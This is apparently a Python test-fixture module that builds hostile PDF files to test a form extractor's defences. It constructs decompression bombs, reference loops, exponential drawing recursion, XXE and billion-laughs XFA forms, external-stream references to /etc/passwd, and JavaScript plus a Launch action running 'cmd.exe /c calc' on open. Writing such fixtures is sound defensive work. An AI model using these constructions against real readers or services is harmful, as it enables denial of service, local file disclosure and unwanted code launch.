"""PDFs made to do harm: most of them good forms with one thing changed, some written byte by byte."""

import io
import zlib
from collections.abc import Callable, Sequence
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf

from tests.extractors.pdf_forms import form_pdf, saved
from tests.extractors.xfa_forms import DATA, datasets, field, template, xfa_pdf
from tests.hostile.packages import LAUGHS

MEGABYTE = 2**20
TEXT = "/FT /Tx /Subtype /Widget /Rect [100 700 200 720]"


def altered(form: bytes, change: Callable[[Pdf], None]) -> bytes:
    """The form after this change."""
    with pikepdf.open(io.BytesIO(form)) as pdf:
        change(pdf)
        return saved(pdf)


def written(*objects: bytes, trailer: bytes = b"", root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1, with its table of contents."""
    data = b"%PDF-1.7\n"
    starts = []
    for number, one in enumerate(objects, start=1):
        starts.append(len(data))
        data += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % start for start in starts)
    end = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n%b" % (len(objects) + 1, table)
    return data + b"trailer\n<< /Size %d /Root %d 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        trailer % end if b"%d" in trailer else trailer,
        end,
    )


CATALOG = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>"
FIELD = b"<< /FT /Tx /T (a) /V (x) /Subtype /Widget /Rect [0 0 9 9] /P 3 0 R >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>"


def pages_in_a_circle() -> bytes:
    """A page tree whose branch is its own."""
    return written(CATALOG, b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 9 /Parent 2 0 R >>", PAGE, FIELD)


def objects_in_a_circle() -> bytes:
    """Objects that are each other, where the fields, an answer and a length are looked for."""
    circle = b"<< /Type /Catalog /Pages 2 0 R /AcroForm 5 0 R >>"
    tree = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    kid = b"<< /FT /Tx /T (a) /V 7 0 R /Kids [4 0 R] /Parent 4 0 R >>"
    stream = b"<< /Length 8 0 R >>\nstream\nx\nendstream"
    return written(circle, tree, PAGE, kid, b"<< /Fields [4 0 R 6 0 R] >>", b"6 0 R", stream, b"8 0 R")


def tables_in_a_circle() -> bytes:
    """A table of contents that goes on in itself."""
    return written(CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE, FIELD, trailer=b"/Prev %d")


def object_streams_in_a_circle() -> bytes:
    """A table of contents by which an object stream lies in itself."""
    rows = [(0, 0, 255), (2, 2, 0), (2, 2, 0), (2, 3, 0)]
    head = b"%PDF-1.7\n"
    packed = zlib.compress(b"2 0 << /Type /Catalog >>")
    inner = b"<< /Type /ObjStm /N 1 /First 4 /Extends 2 0 R /Length %d /Filter /FlateDecode >>" % len(packed)
    body = b"2 0 obj\n" + inner + b"\nstream\n" + packed + b"\nendstream\nendobj\n"
    start = len(head) + len(body)
    table = b"".join(bytes((kind, 0, place, more)) for kind, place, more in rows)
    listed = b"<< /Type /XRef /Size 4 /W [1 2 1] /Root 1 0 R /Length %d /Prev %d >>" % (len(table), start)
    return (
        head
        + body
        + b"3 0 obj\n"
        + listed
        + b"\nstream\n"
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    )


def bomb(times: int, size: int = 64 * MEGABYTE) -> tuple[bytes, list[Name]]:
    """So many bytes of blanks, packed so often, with the filters that unpack them."""
    packer = zlib.compressobj(9)
    data = packer.compress(b" " * size) + packer.flush()
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data, [Name.FlateDecode] * times


def bomb_as_page(form: bytes, times: int, size: int) -> bytes:
    """The form with such a bomb drawn upon its first page."""

    def change(pdf: Pdf) -> None:
        data, filters = bomb(times, size)
        stream = pdf.make_stream(b"")
        stream.write(data, filter=Array(filters))
        pdf.pages[0].contents_add(stream)

    return _raw(form, change)


def bomb_as_answer(form: bytes, times: int) -> bytes:
    """The form with such a bomb as the answer of a field, and as what draws it."""

    def change(pdf: Pdf) -> None:
        data, filters = bomb(times)
        stream = pdf.make_stream(b"")
        stream.write(data, filter=Array(filters))
        one = _text_field(pdf)
        one.V = stream
        drawn = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
        drawn.write(data, filter=Array(filters))
        one.AP = Dictionary(N=drawn)

    return _raw(form, change)


def bomb_of_pages(times: int, size: int) -> bytes:
    """A PDF without fields, its one page drawn by such a bomb."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    return bomb_as_page(saved(pdf), times, size)


def _text_field(pdf: Pdf) -> Any:
    """A field that people type into and that a page shows."""
    return next(one for one in pdf.pages[-1].Annots if one.get("/FT") == Name.Tx)


def _raw(form: bytes, change: Callable[[Pdf], None]) -> bytes:
    """The form after a change, its streams as they are."""
    with pikepdf.open(io.BytesIO(form)) as pdf:
        change(pdf)
        out = io.BytesIO()
        pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
        return out.getvalue()


def million_pages() -> bytes:
    """A page tree of six levels, each of which holds the next one ten times."""
    levels = [b"<< /Type /Pages /Kids [%b] /Count %d >>" % (b"%d 0 R " % (n + 3) * 10, 10 ** (6 - n)) for n in range(6)]
    return written(
        b"<< /Type /Catalog /Pages 2 0 R >>", *levels, b"<< /Type /Page /Parent 7 0 R /MediaBox [0 0 612 792] >>"
    )


def many_pages(count: int) -> bytes:
    """Pages that are really there, so many."""
    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"
    tree = b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, count)
    return written(b"<< /Type /Catalog /Pages 2 0 R >>", tree, *[page] * count)


def huge_picture(form: bytes | None, side: int = 60_000) -> bytes:
    """A page that shows a picture of so many dots each way; upon a form, or alone."""

    def change(pdf: Pdf) -> None:
        packer = zlib.compressobj(9)
        line = bytes(side // 8)
        data = b"".join(packer.compress(line) for _ in range(side)) + packer.flush()
        picture = pdf.make_stream(
            b"", Type=Name.XObject, Subtype=Name.Image, Width=side, Height=side, BitsPerComponent=1
        )
        picture.ColorSpace = Name.DeviceGray
        picture.write(data, filter=Name.FlateDecode)
        page = pdf.pages[0]
        page.add_resource(picture, Name.XObject, Name("/Huge"))
        page.contents_add(b"q 612 0 0 792 0 0 cm /Huge Do Q")

    if form is None:
        pdf = pikepdf.new()
        pdf.add_blank_page(page_size=(612, 792))
        form = saved(pdf)
    return _raw(form, change)


def huge_page() -> bytes:
    """A page as large as a PDF can say."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1e9 1e9] /UserUnit 75000 /Contents 4 0 R >>"
    drawn = b"<< /Length 20 >>\nstream\n0 0 99999 99999 re f\nendstream"
    return written(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, drawn)


def scripted(form: bytes, url: str, evil: str) -> bytes:
    """The form with scripts and programs that begin when it is opened, shown, printed, closed or clicked."""

    def change(pdf: Pdf) -> None:
        script = Dictionary(S=Name.JavaScript, JS=f'app.launchURL("{url}/script", true); this.submitForm("{url}");')
        launch = Dictionary(S=Name.Launch, F=evil, Win=Dictionary(F="cmd.exe", P=f"/c calc {url}"))
        fetch = Dictionary(S=Name.URI, URI=f"{url}/uri")
        pdf.Root.OpenAction = Dictionary(**{"/S": Name.JavaScript, "/JS": script.JS, "/Next": Array([launch, fetch])})
        pdf.Root.AA = Dictionary(WC=script, DP=launch)
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["evil", pdf.make_indirect(script)])))
        pdf.pages[0].obj.AA = Dictionary(O=launch, C=script)
        pdf.Root.AcroForm.Fields[0].AA = Dictionary(K=script, F=launch)

    return altered(form, change)


def far_files(form: bytes, url: str) -> bytes:
    """The form with streams that lie in other files, here and elsewhere."""

    def change(pdf: Pdf) -> None:
        for number, place in enumerate((url, "/etc/passwd", "file:///etc/passwd")):
            stream = pdf.make_stream(b"")
            stream.F = Dictionary(Type=Name.Filespec, FS=Name.URL, F=f"{place}/{number}")
            pdf.pages[0].add_resource(stream, Name.XObject, Name(f"/Far{number}"))
            pdf.pages[0].contents_add(f"/Far{number} Do".encode())

    return altered(form, change)


def fields_within_fields(levels: int) -> bytes:
    """Fields in fields, so deep."""
    objects = [b"<< /T (a) /Kids [%d 0 R] /Parent %d 0 R >>" % (n + 5, max(4, n + 3)) for n in range(levels)]
    tree = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return written(CATALOG, tree, PAGE, *objects, b"<< /FT /Tx /T (end) /V (x) /Rect [0 0 9 9] >>")


def arrays_within_arrays(levels: int) -> bytes:
    """An answer of arrays in arrays, so deep."""
    tree = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    deep = b"<< /FT /Tx /T (a) /Rect [0 0 9 9] /V %b%b >>" % (b"[" * levels, b"]" * levels)
    return written(CATALOG, tree, PAGE, deep)


def drawings_in_a_circle(form: bytes) -> bytes:
    """The form with drawings that draw each other, ten times each, on its first page and in a field."""

    def change(pdf: Pdf) -> None:
        drawings = [
            pdf.make_indirect(
                pdf.make_stream(b"/X Do " * 10, Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 612, 792])
            )
            for _ in range(3)
        ]
        for number, one in enumerate(drawings):
            one.Resources = Dictionary(XObject=Dictionary(X=drawings[(number + 1) % 3]))
        pdf.pages[0].add_resource(drawings[0], Name.XObject, Name("/Ring"))
        pdf.pages[0].contents_add(b"/Ring Do")
        _text_field(pdf).AP = Dictionary(N=drawings[0])

    return altered(form, change)


def doubling_drawings(form: bytes | None, levels: int = 40) -> bytes:
    """A page with drawings each of which draws the next one twice: 2 to the 40th at the bottom."""

    def change(pdf: Pdf) -> None:
        last: Any = pdf.make_stream(b"0 0 1 1 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 612, 792])
        for _ in range(levels):
            one = pdf.make_stream(b"/X Do /X Do", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 612, 792])
            one.Resources = Dictionary(XObject=Dictionary(X=pdf.make_indirect(last)))
            last = one
        pdf.pages[0].add_resource(last, Name.XObject, Name("/Twice"))
        pdf.pages[0].contents_add(b"/Twice Do")

    if form is None:
        pdf = pikepdf.new()
        pdf.add_blank_page(page_size=(612, 792))
        form = saved(pdf)
    return altered(form, change)


def with_files(form: bytes, files: Sequence[tuple[str, bytes]]) -> bytes:
    """The form with files attached under these names, whatever they lead to."""

    def change(pdf: Pdf) -> None:
        listed = Array()
        for number, (name, data) in enumerate(files):
            stream = pdf.make_stream(data, Type=Name.EmbeddedFile)
            about = Dictionary(Type=Name.Filespec, F=name, UF=name, EF=Dictionary(F=stream))
            listed.extend([f"{number:06}", pdf.make_indirect(about)])
        pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=listed))

    return altered(form, change)


def xfa_laughs() -> bytes:
    """An XFA form with entities of entities in its answers."""
    data = f'<xfa:datasets xmlns:xfa="{DATA}"><xfa:data><form1><town>&j;</town></form1></xfa:data></xfa:datasets>'
    return xfa_pdf(("template", template(field("town"))), ("datasets", (LAUGHS + data).encode()))


def xfa_far(url: str) -> bytes:
    """An XFA form whose template, pictures and answers lie elsewhere."""
    parts = field("town", f'<value><image href="{url}/p.png"/></value>') + f'<subform usehref="{url}/t.xdp#a"/>'
    entity = f'<!DOCTYPE d [<!ENTITY e SYSTEM "{url}/e">]>'.encode()
    return xfa_pdf(("template", template(parts)), ("datasets", entity + datasets("<town>&e;</town>")))


def xfa_bomb() -> bytes:
    """An XFA form whose answers are 64 MB of blanks."""
    return xfa_pdf(
        ("template", template(field("town"))), ("datasets", datasets(" " * (64 * MEGABYTE))), compress_streams=True
    )


def many_fields(count: int) -> bytes:
    """A form of so many fields, all listed, none on a page."""
    objects = [b"<< /FT /Tx /T (a%d) /V (x) >>" % n for n in range(count)]
    listed = b" ".join(b"%d 0 R" % (n + 4) for n in range(count))
    return written(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [%b] >> >>" % listed,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        *objects,
    )


def long_answer() -> bytes:
    """A form of one field, whose answer is 20 MB long."""
    return form_pdf(f"/T (a) {TEXT} /V ({'a' * (20 * MEGABYTE)})")
